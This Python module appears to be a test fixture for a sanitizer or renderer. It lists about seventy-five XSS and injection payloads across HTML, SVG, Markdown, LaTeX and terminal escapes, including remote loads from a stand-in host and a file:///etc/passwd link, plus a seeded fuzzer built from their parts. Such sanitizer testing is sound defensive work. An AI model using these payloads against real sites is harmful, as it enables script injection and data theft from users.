"""Hostile texts: sixty and more that are known, and as many as one likes made from their parts."""

from __future__ import annotations

import random

_RUN = "window.hacked=1"
_FAR = "https://evil.example/x"

KNOWN = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src={_FAR}.js></script>",
    f"<script type=module>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_FAR}.png>",
    f"<img srcset='{_FAR}.png 1x'>",
    f"<image href={_FAR}.png>",
    f"<picture><source srcset={_FAR}.png><img></picture>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><use href='{_FAR}.svg#a'/></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe src={_FAR}></iframe></foreignObject></svg>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    f"<math href='javascript:{_RUN}'>x</math>",
    f"<iframe src={_FAR}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data={_FAR}></object>",
    f"<embed src={_FAR}>",
    f"<video src={_FAR}.mp4 autoplay onerror={_RUN}></video>",
    f"<audio src={_FAR}.mp3 autoplay></audio>",
    f"<link rel=stylesheet href={_FAR}.css>",
    f"<link rel=prefetch href={_FAR}>",
    f"<style>@import '{_FAR}.css'; * {{ background: url({_FAR}) }}</style>",
    f"<div style='background:url({_FAR}.png)'>x</div>",
    f"<p style='position:fixed;inset:0' onclick={_RUN}>x</p>",
    f"<base href={_FAR}/>",
    f"<meta http-equiv=refresh content='0;url={_FAR}'>",
    f"<form action={_FAR}><input name=a autofocus onfocus={_RUN}></form>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<body onload={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<x onmouseover={_RUN} tabindex=1 autofocus>x</x>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&#x3C;img src=x onerror={_RUN}&#x3E;",
    f"![x]({_FAR}.png)",
    f"![x][y]\n\n[y]: {_FAR}.png",
    f"[![x]({_FAR}.png)]({_FAR})",
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](java&#10;script:{_RUN})",
    f"[x](&#106;avascript:{_RUN})",
    f"[x](\\javascript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    f"[x](vbscript:{_RUN})",
    "[x](file:///etc/passwd)",
    f"<javascript:{_RUN}>",
    f'[x](https://a.example "onclick={_RUN}")',
    f'[x](https://a.example/"onmouseover="{_RUN})',
    f"[x]: javascript:{_RUN}\n\n[x]",
    f"```html\n<script>{_RUN}</script>\n```",
    f'```"><script>{_RUN}</script>\nx\n```',
    f"~~~\n```\n<script>{_RUN}</script>\n~~~",
    f"    <script>{_RUN}</script>",
    f"`<img src=x onerror={_RUN}>`",
    f"\\`<img src=x onerror={_RUN}>\\`",
    f"| a |\n|---|\n| <img src=x onerror={_RUN}> |",
    f"> <script>{_RUN}</script>\n> - <img src={_FAR}.png>",
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"$$\n\\style{{background:url({_FAR})}}{{x}}\n$$",
    f"\\(\\class{{x}}{{<img src={_FAR}.png>}}\\)",
    "$\\require{html}\\data{a=1}{x}$",
    f"$\\text{{<img src=x onerror={_RUN}>}}$",
    f"$x</span><script>{_RUN}</script>$",
    f"$$\n```\n<img src=x onerror={_RUN}>\n$$",
    f"\x1b]8;;{_FAR}\x07x\x1b]8;;\x07 \x1b[2J\x1b[31mred",
    "\u202egnp.x\u202c \u2066 \u200b \ufeff bidi",
    f"\u2028<script>{_RUN}</script>\u2029",
]

_PARTS = [
    "<", ">", "</", "/>", "`", "```", "~~~", "$", "$$", "\\(", "\\)", "\\[", "\\]", "\\", "![", "](", ")",
    "[", "]", "|", "---", "\n", "\n\n", "> ", "- ", "    ", "#", "*", "_", "&lt;", "&#60;", "&", ";", '"', "'",
    "=", " ", "a", "script", "img", "svg", "style", "iframe", "src=", "href=", "onerror=", "onload=",
    _RUN, _FAR, "javascript:", "data:text/html,", "\\href{", "\\class{", "}", "{", "<!--", "-->", "\u202e",
]  # fmt: skip


def fuzzed(count: int, seed: int = 6) -> list[str]:
    """So many texts, drawn from the parts of which hostile ones are made."""
    draw = random.Random(seed)
    return ["".join(draw.choices(_PARTS, k=draw.randint(3, 25))) for _ in range(count)]
